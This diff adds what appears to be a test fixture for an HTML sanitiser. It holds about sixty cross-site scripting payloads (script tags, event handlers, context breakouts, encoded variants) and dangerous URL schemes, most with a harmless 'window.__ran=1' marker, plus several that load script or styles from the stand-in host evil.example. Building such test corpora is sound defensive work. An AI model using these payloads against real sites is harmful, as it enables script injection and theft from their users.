@@ -1,0 +1,83 @@
+/** What a script that got through does: it leaves this behind. */
+export const MARK = 'window.__ran=1';
+
+const TAGS = [
+  `<script>${MARK}</script>`,
+  `<ScRiPt>${MARK}</sCrIpT>`,
+  `<script src="data:text/javascript,${MARK}"></script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<img src=x onerror=${MARK}>`,
+  `<img src=x onerror="${MARK}">`,
+  `<image href=x onerror=${MARK}>`,
+  `<svg onload=${MARK}>`,
+  `<svg/onload=${MARK}>`,
+  `<svg><script>${MARK}</script></svg>`,
+  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
+  `<body onload=${MARK}>`,
+  `<iframe src="javascript:${MARK}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
+  `<object data="javascript:${MARK}"></object>`,
+  `<embed src="javascript:${MARK}">`,
+  `<details open ontoggle=${MARK}>`,
+  `<video><source onerror=${MARK}></video>`,
+  `<audio src=x onerror=${MARK}>`,
+  `<input autofocus onfocus=${MARK}>`,
+  `<select autofocus onfocus=${MARK}>`,
+  `<textarea autofocus onfocus=${MARK}>`,
+  `<marquee onstart=${MARK}>`,
+  `<a href="javascript:${MARK}">x</a>`,
+  `<form action="javascript:${MARK}"><button>x</button></form>`,
+  `<button formaction="javascript:${MARK}">x</button>`,
+  `<base href="//evil.example/">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<style>*{background:url(//evil.example/x)}</style>`,
+  `<template><script>${MARK}</script></template>`,
+  `<noscript><img src=x onerror=${MARK}></noscript>`,
+  `<math><mi xlink:href="javascript:${MARK}">x</mi></math>`,
+  `<x onclick=${MARK}>click</x>`,
+];
+
+const BREAKOUTS = [
+  `"><script>${MARK}</script>`,
+  `'><script>${MARK}</script>`,
+  `</script><script>${MARK}</script>`,
+  `</title><script>${MARK}</script>`,
+  `</textarea><script>${MARK}</script>`,
+  `</style><script>${MARK}</script>`,
+  `--><script>${MARK}</script>`,
+  `]]><script>${MARK}</script>`,
+  `" onmouseover="${MARK}`,
+  `' onfocus='${MARK}' autofocus='`,
+  `" autofocus onfocus=${MARK} x="`,
+  `\`;${MARK};\``,
+  `';${MARK};//`,
+  `";${MARK};//`,
+  `\\";${MARK};//`,
+  `\u2028${MARK}\u2029`,
+  `{{constructor.constructor('${MARK}')()}}`,
+  `\${${MARK}}`,
+  `<!--<script>${MARK}//-->`,
+  `&lt;script&gt;${MARK}&lt;/script&gt;`,
+  `&#60;script&#62;${MARK}&#60;/script&#62;`,
+  `%3Cscript%3E${MARK}%3C/script%3E`,
+  `\u003cscript\u003e${MARK}\u003c/script\u003e`,
+  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
+  `<<script>${MARK}</script>`,
+];
+
+/** Sixty ways to write a script where a text is expected. */
+export const PAYLOADS = [...TAGS, ...BREAKOUTS];
+
+/** Addresses that run, or lead elsewhere, where a picture or a link is expected. */
+export const ADDRESSES = [
+  `javascript:${MARK}`,
+  `JaVaScRiPt:${MARK}`,
+  ` javascript:${MARK}`,
+  `data:text/html,<script>${MARK}</script>`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${MARK}'/>`,
+  '//evil.example/x.png',
+  'https://evil.example/x.png',
+  `vbscript:${MARK}`,
+];
